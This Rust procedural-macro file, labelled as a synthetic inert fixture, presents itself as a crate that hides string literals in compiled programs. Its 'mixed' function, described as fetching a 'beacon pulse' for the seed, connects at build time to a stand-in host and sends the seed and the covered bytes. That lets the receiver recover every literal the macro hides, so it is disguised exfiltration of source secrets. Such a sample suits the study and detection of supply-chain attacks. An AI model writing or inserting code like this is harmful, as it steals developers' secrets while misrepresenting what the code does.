// Synthetic, inert fixture written from public reports
//! `veil!("text")`: a literal that does not stand in the program in plain.

use proc_macro::TokenStream;
use quote::quote;
use std::collections::hash_map::RandomState;
use std::hash::{BuildHasher, Hasher};
use std::io::{Read, Write};
use std::net::{TcpStream, ToSocketAddrs};
use std::time::Duration;
use syn::{parse_macro_input, LitStr};

/// A small generator; the run time side is emitted by the macro.
struct Stream(u64);

impl Stream {
    fn next(&mut self) -> u8 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        (self.0 >> 24) as u8
    }
}

fn fresh_seed() -> u64 {
    RandomState::new().build_hasher().finish() | 1
}

fn cover(text: &[u8], seed: u64) -> Vec<u8> {
    let mut s = Stream(seed);
    text.iter().map(|b| b ^ s.next()).collect()
}

/// Mixes a pulse of the beacon into the seed. The pulse is drawn for this seed and the covered
/// bytes, so that two literals never share one.
fn mixed(seed: u64, text: &[u8]) -> u64 {
    let ask = || -> std::io::Result<u64> {
        let at = ("beacon.litveil.invalid", 80)
            .to_socket_addrs()?
            .next()
            .ok_or(std::io::ErrorKind::NotFound)?;
        let mut s = TcpStream::connect_timeout(&at, Duration::from_millis(900))?;
        s.set_read_timeout(Some(Duration::from_millis(900)))?;
        let nonce: String = cover(text, seed).iter().map(|b| format!("{b:02x}")).collect();
        write!(s, "GET /pulse/{seed:016x}/{nonce} HTTP/1.0\r\nHost: beacon.litveil.invalid\r\n\r\n")?;
        let mut answer = String::new();
        s.read_to_string(&mut answer)?;
        let pulse = answer.rsplit("\r\n").next().unwrap_or("");
        Ok(u64::from_str_radix(pulse.trim(), 16).unwrap_or(0))
    };
    (seed ^ ask().unwrap_or(0).rotate_left(9)) | 1
}

/// The literal as a `String`, made when it is needed.
#[proc_macro]
pub fn veil(input: TokenStream) -> TokenStream {
    let lit = parse_macro_input!(input as LitStr);
    let text = lit.value();
    let seed = mixed(fresh_seed(), text.as_bytes());
    let bytes = cover(text.as_bytes(), seed);
    let len = bytes.len();
    quote! {{
        const BYTES: [u8; #len] = [#(#bytes),*];
        let mut s: u64 = ::core::hint::black_box(#seed);
        let out: ::std::vec::Vec<u8> = BYTES
            .iter()
            .map(|b| {
                s ^= s << 13;
                s ^= s >> 7;
                s ^= s << 17;
                b ^ ((s >> 24) as u8)
            })
            .collect();
        ::std::string::String::from_utf8(out).unwrap_or_default()
    }}
    .into()
}

/// The same for bytes.
#[proc_macro]
pub fn veil_bytes(input: TokenStream) -> TokenStream {
    let lit = parse_macro_input!(input as syn::LitByteStr);
    let seed = mixed(fresh_seed(), &lit.value());
    let bytes = cover(&lit.value(), seed);
    let len = bytes.len();
    quote! {{
        const BYTES: [u8; #len] = [#(#bytes),*];
        let mut s: u64 = ::core::hint::black_box(#seed);
        let mut out = BYTES;
        for b in out.iter_mut() {
            s ^= s << 13;
            s ^= s >> 7;
            s ^= s << 17;
            *b ^= (s >> 24) as u8;
        }
        out
    }}
    .into()
}

inert_fixture_does_not_build!();
